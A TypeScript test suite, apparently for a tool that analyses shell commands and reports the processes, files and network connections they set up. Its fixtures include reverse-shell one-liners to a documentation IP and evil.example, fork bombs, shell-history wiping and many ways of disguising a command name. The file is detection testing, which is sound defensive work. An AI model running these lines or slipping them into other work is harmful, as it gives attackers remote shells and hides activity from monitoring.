// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of a shell

import { describe, expect, it } from 'vitest';
import { bash, codes, commands, fileOf, files, lineage, networks, processOf } from './support.ts';

describe('a command', () => {
  it('is a process with a full path, its words unquoted, and its place in the text', () => {
    const text = 'cd /srv && nmap -sS "10.0.0.5"  # scan';
    const nmap = processOf(bash(text), 'nmap');
    expect(nmap.image).toBe('/usr/bin/nmap');
    expect(nmap.argv).toEqual(['nmap', '-sS', '10.0.0.5']);
    expect(nmap.commandLine).toBe('nmap -sS 10.0.0.5');
    expect(nmap.directory).toBe('/srv');
    expect(nmap.parent).toBeUndefined();
    expect(nmap.origin).toEqual({ step: 0, call: 0, argument: 'command', span: [11, 30], via: [] });
    expect(text.slice(...nmap.origin.span)).toBe('nmap -sS "10.0.0.5"');
  });

  it('quotes only words that are empty or hold white space in its command line', () => {
    expect(commands(bash(`git commit -m 'two words' --author "" -q`))).toEqual([
      'git commit -m "two words" --author "" -q',
    ]);
  });

  it.each([
    ['/opt/tools/nmap -v', '/opt/tools/nmap'],
    ['./x.sh', './x.sh'],
    ['cd /tmp; ./x.sh', '/tmp/x.sh'],
    ['cd /tmp/a && ../b/x', '/tmp/b/x'],
    ['~/bin/x', '~/bin/x'],
    ['$HOME/bin/x', '~/bin/x'],
    ['/proc/self/root/usr/bin/x', '/usr/bin/x'],
  ])('%s starts %s', (text, image) => {
    expect(bash(text).some((action) => action.kind === 'process' && action.image === image)).toBe(true);
  });

  it('says what was undone for `/proc/self/root`', () => {
    expect(processOf(bash('/proc/self/root/usr/bin/nmap x'), 'nmap').origin.via).toEqual(['/proc/self/root']);
  });

  it('keeps the variables that are set for it, and those exported before it', () => {
    const found = processOf(bash('export A=1; B=2 C="x y" nmap h'), 'nmap');
    expect(found.environment).toEqual({ A: '1', B: '2', C: 'x y' });
  });

  it.each([['nmap x &'], ['nohup nmap x'], ['setsid nmap x'], ['(nmap x; true) &'], ['coproc nmap x']])(
    '%s is left running',
    (text) => expect(processOf(bash(text), 'nmap').background).toBe(true),
  );
});

describe('words that come to the same', () => {
  it.each([
    [`nm'ap' x`],
    [`n\\map x`],
    [`"nm"ap x`],
    [`'nm''ap' x`],
    [`$'\\x6e\\x6d\\x61\\x70' x`],
    [`$'\\156\\155\\141\\160' x`],
    ['nm\\\nap x'],
    ['A=nm; B=ap; $A$B x'],
    ['A=nm; "${A}ap" x'],
    ['A=nmap; "$A" x'],
    ['export A=nmap; $A x'],
    ['c=nXmXaXp; ${c//X/} x'],
    ['c=nmap.old; ${c%.old} x'],
    ['c=NMAP; ${c,,} x'],
    ['a=(n m ap); ${a[0]}${a[1]}${a[2]} x'],
    ['${NOT_SET:-nmap} x'],
    ['x=nm; x+=ap; $x y'],
    ['n=c; c=nmap; ${!n} x'],
    ['$(echo nmap) x'],
    ['`echo nmap` x'],
    ['$(printf %s nmap) x'],
    ['nm$(echo ap) x'],
    ['{nmap,-sS,x}'],
    ['n{ma,}p x'],
    ['nmap${IFS}x'],
    ['nm$@ap x'],
    ['alias q=nmap; q x'],
    ['f() { "$@"; }; f nmap x'],
    ['f() { $1$2 x; }; f nm ap'],
    ['read c <<< nmap; $c x'],
    ['set -- nmap x; "$@"'],
    ['printf -v c nm%s ap; $c x'],
    ["eval 'nm''ap x'"],
    ['command nmap x'],
    ['builtin command nmap x'],
    ['exec nmap x'],
    ['! nmap x'],
    ['time nmap x'],
    ['for c in nmap; do $c x; done'],
    ['while read c; do $c x; done <<< nmap'],
  ])('%s runs nmap', (text) => {
    expect(bash(text).some((action) => action.kind === 'process' && action.image === '/usr/bin/nmap')).toBe(
      true,
    );
  });

  it('leaves as written what it does not know', () => {
    expect(commands(bash('nmap $TARGET ${PORTS} $(cat hosts) *.txt {1..254}'))).toContain(
      'nmap $TARGET ${PORTS} "$(cat hosts)" *.txt {1..254}',
    );
  });

  it('does not know a variable any more that was set to something unknown', () => {
    expect(commands(bash('x=nmap; x=$(date +%s); echo $x; $x y')).at(-1)).toBe('$x y');
  });

  it('sets nothing outside a subshell', () => {
    expect(commands(bash('(x=nmap); $x y'))).toEqual(['$x y']);
  });
});

describe('structure', () => {
  it.each([
    ['if nmap a; then :; fi'],
    ['if true; then nmap a; fi'],
    ['if false; then :; elif nmap a; then :; fi'],
    ['if false; then :; else nmap a; fi'],
    ['for i in 1 2; do nmap a; done'],
    ['while nmap a; do :; done'],
    ['until false; do nmap a; done'],
    ['case $1 in x) nmap a ;; esac'],
    ['select x in a b; do nmap a; done'],
    ['for ((i=0;i<3;i++)); do nmap a; done'],
    ['(cd /tmp && nmap a)'],
    ['{ nmap a; }'],
    ['true && nmap a'],
    ['false || nmap a'],
    ['ls | nmap a'],
    ['echo $(nmap a)'],
    ['echo "`nmap a`"'],
    ['diff <(nmap a) b'],
    ['tee >(nmap a) < b'],
    ['[[ -n $(nmap a) ]]'],
    ['x=$(nmap a)'],
    ['echo $(( $(nmap a) + 1 ))'],
    ['f() { nmap a; }; f'],
    ['function f { nmap a; }; f'],
    ['trap "nmap a" EXIT'],
    ['cat <<E\n$(nmap a)\nE'],
  ])('%s runs nmap', (text) => expect(commands(bash(text))).toContain('nmap a'));

  it('tells the process that a pipe comes from', () => {
    const actions = bash('cat list | sort -u | nmap -iL -');
    const [cat, sort, nmap] = ['cat', 'sort', 'nmap'].map((name) => processOf(actions, name));
    expect(actions[sort!.pipedFrom!]).toBe(cat);
    expect(actions[nmap!.pipedFrom!]).toBe(sort);
    expect(cat!.pipedFrom).toBeUndefined();
  });

  it('tells what is fed to a process where it is literal', () => {
    expect(processOf(bash('echo secret | sudo -S id'), 'sudo').input).toBe('secret\n');
    expect(processOf(bash("mail a@b <<'E'\nhello\nE"), 'mail').input).toBe('hello\n');
    expect(processOf(bash('wc -l <<< "$unknown"'), 'wc').input).toBe('$unknown\n');
  });

  it('goes through a function where it is called, with its arguments', () => {
    expect(commands(bash('scan() { nmap -p "$2" "$1"; }\nscan 10.0.0.5 22'))).toContain(
      'nmap -p 22 10.0.0.5',
    );
    expect(commands(bash('scan() { nmap "$1"; }'))).toEqual([]);
  });

  it.each([
    [':(){ :|:& };:'],
    [':() { : | : & } ; :'],
    ['bomb() { bomb | bomb & }; bomb'],
    ['function again {\n  again &\n  again\n}\nagain'],
  ])('%s is a fork bomb', (text) => {
    const bomb = bash(text).find((action) => action.kind === 'process' && action.image === ':');
    expect(bomb).toMatchObject({ commandLine: 'fork-bomb :(){ :|:& };:', loop: 'endless', background: true });
  });

  it('ends for a function that calls itself', () => {
    expect(commands(bash('f() { nmap x; f; }; f'))).toEqual(['nmap x']);
  });

  it.each([
    ['while true; do curl http://a.example/x; done', 'endless'],
    ['while :; do curl http://a.example/x; done', 'endless'],
    ['until false; do curl http://a.example/x; done', 'endless'],
    ['for ((;;)); do curl http://a.example/x; done', 'endless'],
    ['for i in 1 2 3; do curl http://a.example/x; done', 'counted'],
    ['while [ $i -lt 3 ]; do curl http://a.example/x; done', 'counted'],
    ['curl http://a.example/x', undefined],
  ])('%s loops: %s', (text, loop) => expect(processOf(bash(text), 'curl').loop).toBe(loop));

  it('goes over the items of a loop, and keeps a range as it is written', () => {
    expect(networks(bash('for p in 22 80; do nc -z 10.0.0.5 $p; done'))).toEqual([
      '10.0.0.5:22',
      '10.0.0.5:80',
    ]);
    expect(commands(bash('for i in {1..254}; do ping -c1 192.168.1.$i; done'))).toEqual([
      'ping -c1 192.168.1.{1..254}',
    ]);
  });
});

describe('what only speaks of a command', () => {
  it.each([
    ['echo nmap 10.0.0.5'],
    ['echo "nmap -sS x" > notes.txt'],
    ['printf "nmap %s" x'],
    ['grep -R nmap .'],
    ['# nmap x'],
    ['ls # nmap x'],
    ["cat > scan.sh <<'E'\nnmap x\nE"],
    ["git commit -m 'run nmap x'"],
    ['apt-get install -y nmap'],
    ['which nmap'],
    ['man nmap'],
    ['x=nmap'],
    ['alias scan=nmap'],
    ['scan() { nmap x; }'],
    ['ls /usr/share/nmap'],
    ["sed -i 's/nmap/masscan/' f"],
    ["awk '/nmap/ {print $1}' log"],
    ['find . -name nmap'],
    ['python3 -c \'print("nmap x")\''],
    ['curl https://a.example/nmap.sh'],
    ['wget https://a.example/nmap.sh -O nmap.sh'],
    ['ssh-keygen -C nmap'],
    ['read -p "nmap x? " y'],
    ['[ "$1" = nmap ] && ls'],
    ['echo "nmap x" | grep nmap'],
    ['echo "nmap x" | tee -a log'],
    ['pkill nmap'],
    ['docker build -t nmap .'],
    ['trap - EXIT; : nmap x'],
    ["jq '.nmap' f.json"],
    ['export PATH=$PATH:/opt/nmap'],
    ['case nmap in a) ls ;; esac'],
  ])('%s does not run it', (text) => {
    const started = bash(text).filter(
      (action) => action.kind === 'process' && /(?:^|\/)nmap$/.test(action.image),
    );
    expect(started).toEqual([]);
  });

  it('does not connect to what is printed, searched for or quoted', () => {
    for (const text of [
      'echo curl http://a.example/x',
      'grep -r http://a.example .',
      'git commit -m "see http://a.example"',
      'sed -i s,http://a.example,http://b.example, f',
      'cat <<E > f\nhttp://a.example\nE',
      'python3 -c "x = \'http://a.example\'"',
    ])
      expect(networks(bash(text)), text).toEqual([]);
  });
});

describe('redirections', () => {
  it.each([
    ['id > out', ['create out']],
    ['id >| out', ['create out']],
    ['id >> out', ['append out']],
    ['wc < in', ['read in']],
    ['id &> out', ['create out']],
    ['id &>> out', ['append out']],
    ['id 2> err', ['create err']],
    ['id > a 2> b', ['create a', 'create b']],
    ['exec 3<> both', ['read both', 'append both']],
    ['> empty', ['create empty']],
    ['cd /var; id > log/x', ['create /var/log/x']],
    ['id > ~/x', ['create ~/x']],
    ['{ id; date; } > both', ['create both']],
    ['for i in 1; do id; done >> all', ['append all']],
    ['id > /dev/null 2>&1', []],
  ])('%s: %j', (text, expected) => expect(files(bash(text))).toEqual(expected));

  it('keeps what is written where it is known', () => {
    expect(fileOf(bash('echo a b > f'), 'f').content).toBe('a b\n');
    expect(fileOf(bash("cat > f <<'E'\n$x `y`\nE"), 'f').content).toBe('$x `y`\n');
    expect(fileOf(bash('x=1; cat > f <<E\n$x\nE'), 'f').content).toBe('1\n');
    expect(fileOf(bash('cat > f <<-E\n\ta\n\tE'), 'f').content).toBe('a\n');
    expect(fileOf(bash('printf "%s-%s\\n" a b > f'), 'f').content).toBe('a-b\n');
    expect(fileOf(bash('(echo a; echo b) > f'), 'f').content).toBe('a\nb\n');
    expect(fileOf(bash('date > f'), 'f').content).toBeUndefined();
    expect(fileOf(bash('echo a | tee f'), 'f').content).toBe('a\n');
  });

  it.each([
    ['cat < /dev/tcp/198.51.100.7/80', '198.51.100.7:80', 'tcp'],
    ['echo x > /dev/udp/198.51.100.7/53', '198.51.100.7:53', 'udp'],
    ['exec 5<>/dev/tcp/evil.example/443', 'evil.example:443', 'tcp'],
  ])('%s connects to %s', (text, place, protocol) => {
    const actions = bash(text);
    expect(networks(actions)).toEqual([place]);
    expect(actions.find((action) => action.kind === 'network')).toMatchObject({ protocol, initiated: true });
    expect(files(actions)).toEqual([]);
  });

  it.each([
    ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'bash'],
    ['exec 5<>/dev/tcp/198.51.100.7/4444; sh <&5 >&5 2>&5', 'sh'],
    ['nc 198.51.100.7 4444 -e /bin/sh', 'sh'],
    ['rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f', 'sh'],
    ["socat tcp:198.51.100.7:4444 exec:'sh -i',pty", 'sh'],
  ])('%s is a shell behind a socket', (text, program) => {
    const connected = bash(text).filter(
      (action) => action.kind === 'process' && action.connected === '198.51.100.7:4444',
    );
    expect(connected.some((action) => action.kind === 'process' && action.argv[0]?.endsWith(program))).toBe(
      true,
    );
  });
});

describe('text that no shell would take', () => {
  it.each([
    ["it's broken\nnmap x"],
    ['foo ) bar\nnmap x'],
    ['if true; then\nnmap x'],
    ['echo "open\nnmap x'],
    ['nc <host> <port>; nmap x'],
    ['```bash\nnmap x\n```'],
    ['$ && ;\nnmap x'],
    ['echo ${x\nnmap x'],
  ])('%j still runs nmap', (text) => expect(commands(bash(text)).join('\n')).toContain('nmap x'));

  it('takes `<name>` for a word', () => {
    expect(commands(bash('ssh <user>@<attacker-ip> -p <port>'))).toEqual([
      'ssh <user>@<attacker-ip> -p <port>',
    ]);
  });
});

describe('the variables of shells and tools', () => {
  it('tells assignments that steer them', () => {
    expect(codes(bash('export HISTFILE=/dev/null HISTSIZE=0'))).toEqual([
      'assign HISTFILE = /dev/null',
      'assign HISTSIZE = 0',
    ]);
    expect(codes(bash('export EDITOR_COLOUR=blue'))).toEqual([]);
  });

  it('runs what a variable makes a program run', () => {
    expect(lineage(bash("GIT_SSH_COMMAND='nmap x' git fetch"), 'nmap')).toEqual(['git', 'nmap']);
    expect(lineage(bash("PAGER='nmap x' man ls"), 'nmap')).toEqual(['man', 'nmap']);
  });
});
